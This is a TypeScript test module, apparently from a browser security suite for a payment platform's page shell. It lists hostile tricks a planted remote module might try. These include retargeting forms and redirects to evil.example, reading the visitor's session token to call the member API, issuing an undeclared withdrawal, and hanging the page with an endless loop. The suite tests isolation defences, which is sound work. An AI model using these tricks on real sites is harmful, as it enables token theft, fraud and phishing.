import { balance } from '@azulejo/shared/wire'
import { shellOf } from '../../pages/shell.ts'
import { soon, type Trick } from './trick.ts'

/** Time within which the shell has its header back. */
const restoreMs = 20_000

/** Tricks that act in the place of the shell or of the visitor. */
export const actTricks: readonly Trick[] = [
  {
    name: 'renames the page',
    worksOpen: true,
    play() {
      document.title = 'Planted'
    },
    seen: async ({ page }) => (await page.title()) === 'Planted',
  },
  {
    name: 'gives the page another base address',
    worksOpen: false,
    play() {
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))
    },
    seen: ({ page }) => page.evaluate(() => document.baseURI.startsWith('https://evil.example/')),
  },
  {
    name: 'hides the balance by a style sheet',
    worksOpen: true,
    play() {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync('header * { color: transparent !important }')
      document.adoptedStyleSheets.push(sheet)
    },
    seen: ({ page }) =>
      page.evaluate(() => getComputedStyle(document.querySelector('header button') as Element).color.endsWith(', 0)')),
  },
  {
    name: 'covers the content of the page',
    worksOpen: true,
    play() {
      const cover = document.createElement('div')
      cover.style.cssText = 'position: fixed; inset: 120px 0 0; z-index: 9999'
      document.body.append(cover)
    },
    seen: ({ page }) =>
      page.evaluate(() => document.elementFromPoint(20, innerHeight - 20)?.parentElement === document.body),
  },
  {
    name: 'removes the header for good',
    worksOpen: false,
    play: () => document.querySelector('header')?.remove(),
    seen: async ({ page }) => !(await soon(() => shellOf(page).header.isVisible(), restoreMs)),
  },
  {
    name: 'sends a form of the shell to another address',
    as: 'guest',
    worksOpen: false,
    async before({ page }) {
      await shellOf(page).logIn.click()
    },
    play() {
      for (const form of document.forms) {
        form.action = 'https://evil.example/'
        form.submit()
      }
    },
    seen: async ({ page }) => soon(async () => page.url().startsWith('https://evil.example')),
  },
  {
    name: 'presses a button of the shell',
    worksOpen: true,
    play() {
      for (const button of document.querySelectorAll('header button'))
        if (button.getAttribute('aria-haspopup') || button.getAttribute('aria-expanded'))
          (button as HTMLElement).click()
    },
    seen: ({ page }) =>
      soon(() => page.evaluate(() => document.querySelector('header button[aria-expanded="true"]') !== null)),
  },
  {
    name: 'sends an event that it does not declare',
    worksOpen: false,
    play: ({ host }) => host.bus.emit('password-change-asked', {}),
    seen: ({ page }) => soon(() => page.getByRole('dialog').isVisible()),
  },
  {
    name: 'calls the platform with the token of the visitor',
    worksOpen: true,
    async play({ say }) {
      const headers = { Authorization: sessionStorage.getItem('azulejo:token') ?? '', Merchant: 'azulejo' }
      say(await (await fetch('/wps/member/info', { headers })).text())
    },
    seen: (visit) => soon(async () => (await visit.said()).includes(visit.player.account)),
  },
  {
    name: 'sends a call that it does not declare',
    worksOpen: true,
    async play({ host, say }) {
      const call = {
        operation: 'memberInfo',
        method: 'GET',
        path: '/wps/member/info',
        token: 'needed',
        module: 'COMM3',
      }
      say(JSON.stringify(await host.send({ ...call, sealed: false, request: {} })))
    },
    seen: (visit) => soon(async () => (await visit.said()).includes(visit.player.account)),
  },
  {
    name: 'withdraws the money of the visitor',
    worksOpen: false,
    async play({ host, say }) {
      const path = '/wps/v2/transaction/withdraw'
      const call = {
        operation: 'createWithdrawal',
        method: 'POST',
        path,
        token: 'needed',
        module: 'WDR3',
        sealed: true,
      }
      const request = { amount: '100.00', accountId: '1' }
      await host.send({ ...call, request, idempotencyKey: crypto.randomUUID() })
      say('withdrawn')
    },
    async seen(visit) {
      await soon(async () => (await visit.said()).includes('withdrawn'))
      return (await visit.player.get(balance, {})).sumBalance !== '1000.00'
    },
  },
  {
    name: 'opens a socket to the platform',
    worksOpen: true,
    play() {
      new WebSocket(`ws://${location.host || 'azulejo.localhost'}/wps/planted`)
    },
    before: async ({ page }) => {
      page.on('websocket', (socket) => {
        if (socket.url().endsWith('/planted')) void page.evaluate(() => Object.assign(window, { azulejo_socket: true }))
      })
    },
    seen: ({ page }) => soon(() => page.evaluate(() => 'azulejo_socket' in window)),
  },
  {
    name: 'opens a window',
    worksOpen: true,
    play() {
      open('/rng')
    },
    seen: ({ page }) =>
      soon(async () =>
        (
          await Promise.all(
            page
              .context()
              .pages()
              .map((each) => each.opener()),
          )
        ).includes(page),
      ),
  },
  {
    name: 'sends the visitor to another site',
    worksOpen: true,
    async before({ page }) {
      await page.route('https://evil.example/**', (route) => route.fulfill({ body: 'evil' }))
    },
    play() {
      ;(window.top ?? window).location.href = 'https://evil.example/'
    },
    seen: ({ page }) => soon(async () => page.url().startsWith('https://evil.example')),
  },
  {
    name: 'sends a message in the name of the site',
    worksOpen: true,
    before: ({ page }) =>
      page.evaluate(() => {
        addEventListener('message', ({ origin, data }) => {
          if (data === 'planted' && origin === location.origin) document.documentElement.dataset.planted = 'message'
        })
      }),
    play: () => (window.top ?? window).postMessage('planted', '*'),
    seen: ({ page }) => soon(() => page.evaluate(() => document.documentElement.dataset.planted === 'message')),
  },
  {
    name: 'registers a service worker',
    worksOpen: false,
    play: () => navigator.serviceWorker.register(new URL('worker.js', import.meta.url)),
    async seen({ page, area }) {
      // A registration exists while it is tried.
      await area.getByRole('button', { name: 'registers a service worker', disabled: true }).waitFor()
      return page.evaluate(async () => {
        const found = await navigator.serviceWorker.getRegistrations()
        return found.some(({ scope }) => scope.includes('/remotes/'))
      })
    },
  },
  {
    name: 'stops the page by an endless loop',
    worksOpen: true,
    play() {
      setTimeout(() => {
        for (;;);
      })
    },
    async seen({ page }) {
      const answer = page.evaluate(() => true).catch(() => true)
      const silence = new Promise<'silent'>((resolve) => setTimeout(() => resolve('silent'), 5_000))
      return (await Promise.race([answer, silence])) === 'silent'
    },
  },
]
